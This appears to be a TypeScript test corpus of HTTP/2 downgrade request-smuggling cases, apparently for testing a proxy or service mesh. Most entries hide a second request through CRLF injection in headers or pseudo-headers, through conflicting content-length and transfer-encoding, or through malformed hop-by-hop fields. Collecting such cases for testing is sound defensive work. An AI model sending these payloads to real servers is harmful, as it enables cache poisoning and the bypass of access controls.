/** An HTTP/2 request as bytes could say it, and what is hidden in it. */
export interface Smuggle {
  readonly name: string;
  /** Name, value, and so on; pseudo-headers among them. */
  readonly fields: readonly string[];
  /** DATA after the head; `null` when END_STREAM is on it. */
  readonly body?: string | null;
}

const hidden = "GET /smuggled HTTP/1.1\r\nHost: victim.test\r\n\r\n";
const base = (method = "GET", path = "/front") => [
  ":method",
  method,
  ":scheme",
  "http",
  ":authority",
  "victim.test",
  ":path",
  path,
];
const get = (name: string, ...more: string[]): Smuggle => ({ name, fields: [...base(), ...more] });
const post = (name: string, body: string | null, ...more: string[]): Smuggle => ({
  name,
  fields: [...base("POST"), ...more],
  body,
});
const raw = (name: string, fields: readonly string[], body: string | null = null): Smuggle => ({ name, fields, body });
const pseudo = (name: string, part: string, value: string): Smuggle => ({
  name,
  fields: base().map((text, at, all) => (at % 2 === 1 && all[at - 1] === part ? value : text)),
});

/**
 * Downgrade attacks (HTTP/2 in, HTTP/1 behind), after PortSwigger's "HTTP/2: the sequel is always worse" and "HTTP/1.1 must die", the
 * smuggling tests of HAProxy, nghttp2 and Envoy, and the CVEs of section 5.2.
 */
export const corpus: readonly Smuggle[] = [
  // H2.TE
  post("H2.TE", `0\r\n\r\n${hidden}`, "transfer-encoding", "chunked"),
  post("H2.TE in capitals", `0\r\n\r\n${hidden}`, "Transfer-Encoding", "chunked"),
  post("H2.TE with a space before the value", `0\r\n\r\n${hidden}`, "transfer-encoding", " chunked"),
  post("H2.TE with a tab in the name", `0\r\n\r\n${hidden}`, "transfer-encoding\t", "chunked"),
  post("H2.TE with a space in the name", `0\r\n\r\n${hidden}`, "transfer-encoding ", "chunked"),
  post("H2.TE with an underscore", `0\r\n\r\n${hidden}`, "transfer_encoding", "chunked"),
  post("H2.TE by a line end in a value", `0\r\n\r\n${hidden}`, "x-a", "b\r\ntransfer-encoding: chunked"),
  post("H2.TE by a line feed in a value", `0\r\n\r\n${hidden}`, "x-a", "b\ntransfer-encoding: chunked"),
  post("H2.TE by a line end in a name", `0\r\n\r\n${hidden}`, "x-a: b\r\ntransfer-encoding", "chunked"),
  post("H2.TE by a colon in a name", `0\r\n\r\n${hidden}`, "transfer-encoding:chunked\r\nx", "y"),
  post("H2.TE and H2.CL", `0\r\n\r\n${hidden}`, "content-length", "3", "transfer-encoding", "chunked"),
  // H2.CL
  post("H2.CL of nothing", hidden, "content-length", "0"),
  post("H2.CL too short", `abc${hidden}`, "content-length", "3"),
  post("H2.CL too long", "abc", "content-length", "100"),
  post("H2.CL twice, the same", "abc", "content-length", "3", "content-length", "3"),
  post("H2.CL twice, different", `abc${hidden}`, "content-length", "3", "content-length", "0"),
  post("H2.CL as a list", "abc", "content-length", "3, 3"),
  post("H2.CL with a sign", "abc", "content-length", "+3"),
  post("H2.CL negative", "abc", "content-length", "-1"),
  post("H2.CL in hexadecimal", "abc", "content-length", "0x3"),
  post("H2.CL with a leading zero", "abc", "content-length", "03"),
  post("H2.CL with an exponent", "abc", "content-length", "3e0"),
  post("H2.CL beyond 2^64", "abc", "content-length", "18446744073709551619"),
  post("H2.CL that is empty", hidden, "content-length", ""),
  post("H2.CL by a line end in a value", hidden, "x-a", "b\r\ncontent-length: 0"),
  post("H2.CL with an underscore", hidden, "content_length", "0"),
  get("a length without a body", "content-length", "44"),
  { name: "a GET with a body", fields: base(), body: hidden },
  { name: "a HEAD with a body", fields: base("HEAD"), body: hidden },
  // Whole requests in a field
  get("a request after a line end in a value", "x-a", `b\r\n\r\n${hidden}`),
  get("a request after line feeds in a value", "x-a", `b\n\n${hidden.replaceAll("\r", "")}`),
  get("a request after carriage returns in a value", "x-a", `b\r\r${hidden.replaceAll("\n", "")}`),
  get("a request after a line end in a name", `x-a: b\r\n\r\n${hidden}x`, "y"),
  get("a NUL in a value", "x-a", "b\0c"),
  get("a NUL in a name", "x\0a", "b"),
  pseudo("a request in :path", ":path", `/ HTTP/1.1\r\nHost: victim.test\r\n\r\n${hidden}`),
  pseudo("a space in :path", ":path", "/front HTTP/1.1"),
  pseudo("a second request line in :path", ":path", "/smuggled HTTP/1.1\r\nx: "),
  pseudo("a tab in :path", ":path", "/front\tx"),
  pseudo("a fragment in :path", ":path", "/front#/smuggled"),
  pseudo("an absolute :path", ":path", "http://other.test/smuggled"),
  pseudo("a :path without a slash", ":path", "smuggled"),
  pseudo("an empty :path", ":path", ""),
  pseudo("an asterisk to GET", ":path", "*"),
  pseudo("a request in :method", ":method", "GET /smuggled HTTP/1.1\r\nx: y\r\n\r\nGET"),
  pseudo("a space in :method", ":method", "GET /smuggled"),
  pseudo("an empty :method", ":method", ""),
  pseudo("a line end in :authority", ":authority", `victim.test\r\n\r\n${hidden}`),
  pseudo("user information in :authority", ":authority", "victim.test@other.test"),
  pseudo("a path in :authority", ":authority", "victim.test/smuggled"),
  pseudo("a space in :authority", ":authority", "victim.test x"),
  pseudo("a request in :scheme", ":scheme", `http://victim.test/smuggled HTTP/1.1\r\n\r\n${hidden}`),
  pseudo("an unknown :scheme", ":scheme", "gopher"),
  // Hop-by-hop and pseudo-headers
  get("connection", "connection", "x-a"),
  get("keep-alive", "keep-alive", "timeout=5"),
  get("proxy-connection", "proxy-connection", "keep-alive"),
  get("upgrade", "upgrade", "h2c", "http2-settings", "AAMAAABkAARAAAAAAAIAAAAA"),
  get("upgrade to a websocket", "upgrade", "websocket", "connection", "upgrade"),
  get("te other than trailers", "te", "trailers, chunked"),
  get("te in capitals", "TE", "chunked"),
  get("a host that disagrees", "host", "other.test"),
  get("two hosts", "host", "victim.test", "host", "other.test"),
  get("an empty host", "host", ""),
  raw("a pseudo-header twice", [...base(), ":path", "/smuggled"]),
  raw("a pseudo-header after a header", [...base().slice(0, 6), "x-a", "b", ":path", "/smuggled"]),
  raw("an unknown pseudo-header", [...base(), ":smuggled", "x"]),
  raw("a response's pseudo-header", [...base(), ":status", "200"]),
  raw("no :path", base().slice(0, 6)),
  raw("no :method", base().slice(2)),
  raw("no :scheme", [...base().slice(0, 2), ...base().slice(4)]),
  raw("a name that is empty", [...base(), "", "x"]),
  raw("a name with a colon", [...base(), "x:y", "z"]),
  raw("a name that begins with a colon and a space", [...base(), ": smuggled", "x"]),
  raw("CONNECT with a path", base("CONNECT")),
  raw("CONNECT without a port", [":method", "CONNECT", ":authority", "victim.test"], hidden),
  // What the mesh itself believes
  post("l5d-orig-proto of another version", "abc", "l5d-orig-proto", "HTTP/1.0", "content-length", "3"),
  post("l5d-orig-proto and a length of nothing", hidden, "l5d-orig-proto", "HTTP/1.0", "content-length", "0"),
  post("l5d-orig-proto in absolute form", "abc", "l5d-orig-proto", "HTTP/1.1; absolute-form", "host", "other.test"),
  get("l5d-orig-proto with a line end", "l5d-orig-proto", "HTTP/1.1\r\nx: y"),
  post("expect", "abc", "expect", "100-continue", "content-length", "3"),
];
